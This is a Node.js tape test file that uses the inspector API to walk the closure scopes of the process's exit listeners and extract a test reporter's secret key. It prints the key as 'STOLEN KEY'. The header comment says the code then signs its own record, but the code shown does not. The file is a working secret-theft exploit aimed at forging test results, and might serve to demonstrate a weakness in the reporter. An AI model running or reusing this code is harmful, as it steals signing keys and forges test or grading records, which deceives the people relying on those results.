// Test code that reads the reporter's key out of its closure through the inspector, then
// signs a record of its own.
const inspector = require('inspector');
const test = require('tape');
function post(s, m, p) { let out; s.post(m, p, (e, r) => { if (e) throw e; out = r; }); return out; }
test('steal', (t) => {
  const s = new inspector.Session();
  s.connect();
  globalThis.__exitListeners = process.listeners('exit');
  const { result } = post(s, 'Runtime.evaluate', { expression: 'globalThis.__exitListeners' });
  const seen = new Set();
  let key = null;
  function walk(objectId, depth) {
    if (depth > 6 || seen.has(objectId) || key) return;
    seen.add(objectId);
    const r = post(s, 'Runtime.getProperties', { objectId, ownProperties: true });
    for (const p of [...(r.result || []), ...(r.internalProperties || [])]) {
      const v = p.value;
      if (!v) continue;
      if (p.name === 'key' && v.subtype === 'typedarray') { key = v.objectId; return; }
      if (v.objectId && (v.type === 'function' || p.name === '[[Scopes]]' || v.type === 'object' && (v.subtype === 'internal#scopeList' || v.className === 'Object' || v.subtype === 'array'))) walk(v.objectId, depth + 1);
    }
  }
  walk(result.objectId, 0);
  t.ok(key, 'found the key');
  if (key) {
    const r = post(s, 'Runtime.callFunctionOn', { objectId: key, functionDeclaration: 'function () { return Buffer.from(this).toString("hex"); }', returnByValue: true });
    console.log('STOLEN KEY', r.result.value);
  }
  t.end();
});
